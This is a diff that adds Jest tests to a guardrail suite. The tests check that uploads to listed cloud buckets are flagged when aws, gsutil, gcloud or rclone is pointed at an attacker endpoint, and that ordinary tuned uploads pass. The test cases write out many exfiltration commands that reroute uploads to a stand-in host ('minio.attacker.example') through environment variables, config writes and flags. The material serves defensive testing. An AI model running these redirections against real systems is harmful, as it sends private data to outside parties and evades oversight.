@@ -238,3 +238,44 @@ describe('guardrails.upload_hosts', () => {
     expect(none.uploadAllowed).toBeUndefined();
   });
 });
+
+describe('data_upload_outside: a listed bucket sent to another endpoint (review48b)', () => {
+  const EVIL = 'https://minio.attacker.example';
+  const env = (name: string) => ({ env: [{ name, value: EVIL }] });
+  it.each([
+    ['AWS_ENDPOINT_URL_S3 in the env', 'aws s3 cp /d s3://helixa-models/x', env('AWS_ENDPOINT_URL_S3')],
+    ['AWS_ENDPOINT_URL in the env', 'aws s3 cp /d s3://helixa-models/x', env('AWS_ENDPOINT_URL')],
+    ['AWS_CONFIG_FILE in the env', 'aws s3 cp /d s3://helixa-models/x', env('AWS_CONFIG_FILE')],
+    ['AWS_ENDPOINT_URL assigned', `AWS_ENDPOINT_URL=${EVIL} aws s3 cp /d s3://helixa-models/x`, {}],
+    ['AWS_ENDPOINT_URL_S3 exported', `export AWS_ENDPOINT_URL_S3=${EVIL}; aws s3 cp /d s3://helixa-models/x`, {}],
+    ['aws configure set endpoint_url', `aws configure set endpoint_url ${EVIL} && aws s3 cp /d s3://helixa-models/x`, {}],
+    ['~/.aws/config written', `printf '[default]\\nendpoint_url = ${EVIL}\\n' > ~/.aws/config; aws s3 cp /d s3://helixa-models/x`, {}],
+    ['gsutil -o gs_json_host', 'gsutil -o Credentials:gs_json_host=evil.example cp /d gs://helixa-backups/x', {}],
+    ['BOTO_CONFIG assigned', 'BOTO_CONFIG=/tmp/b gsutil cp /d gs://helixa-backups/x', {}],
+    ['BOTO_CONFIG in the env', 'gsutil cp /d gs://helixa-backups/x', env('BOTO_CONFIG')],
+    ['CLOUDSDK_API_ENDPOINT_OVERRIDES_STORAGE', `CLOUDSDK_API_ENDPOINT_OVERRIDES_STORAGE=${EVIL}/ gcloud storage cp /d gs://helixa-backups/x`, {}],
+    ['gcloud config set api_endpoint_overrides/storage', `gcloud config set api_endpoint_overrides/storage ${EVIL}/ && gcloud storage cp /d gs://helixa-backups/x`, {}],
+    ['RCLONE_CONFIG_MINIO_ENDPOINT in the env', 'rclone copy /d minio:b', env('RCLONE_CONFIG_MINIO_ENDPOINT')],
+    ['RCLONE_CONFIG_MINIO_TYPE assigned', `RCLONE_CONFIG_MINIO_TYPE=s3 RCLONE_CONFIG_MINIO_ENDPOINT=${EVIL} rclone copy /d minio:b`, {}],
+    ['RCLONE_S3_ENDPOINT in the env', 'rclone copy /d minio:b', env('RCLONE_S3_ENDPOINT')],
+    ['rclone --s3-endpoint first', `rclone copy --s3-endpoint ${EVIL} /d minio:b`, {}],
+    ['rclone --s3-endpoint= last', `rclone copy /d minio:b --s3-endpoint=${EVIL}`, {}],
+    ['rclone config create', `rclone config create minio s3 endpoint ${EVIL}; rclone copy /d minio:b`, {}],
+    ['rclone --config of a file written', `printf '[minio]\\ntype = s3\\n' > /tmp/r.conf; rclone --config /tmp/r.conf copy /d minio:b`, {}],
+    ['RCLONE_CONFIG= a file written with tee', `printf '[minio]\\n' | tee /tmp/r.conf; RCLONE_CONFIG=/tmp/r.conf rclone copy /d minio:b`, {}],
+    ['rclone connection string', `rclone copy /d minio,endpoint=${EVIL}:b`, {}],
+    ['rclone -P before the verb, unlisted remote', 'rclone -P copy /d exfil:b', {}],
+    ['rclone --config before the verb, unlisted remote', 'rclone --config /etc/rclone/rclone.conf copy /d exfil:b', {}],
+  ])('asks %s', (_what, script, extra) => {
+    expect(uploads(send(PODS, podOf(script, extra)))).toHaveLength(1);
+  });
+
+  it.each([
+    ['aws with a profile of the image', 'aws s3 cp /d s3://helixa-models/x --profile ml'],
+    ['gsutil -o a GSUtil tuning option', 'gsutil -o GSUtil:parallel_composite_upload_threshold=150M cp /d gs://helixa-backups/x'],
+    ['rclone --config a mounted file, global flags first', 'rclone --config /etc/rclone/rclone.conf -P --transfers 8 copy /d minio:b'],
+    ['rclone with tuning flags', 'rclone copy /d minio:b --s3-chunk-size 64M --transfers 8'],
+  ])('leaves %s to a listed bucket alone', (_what, script) => {
+    expect(check(script)).toEqual([]);
+  });
+});
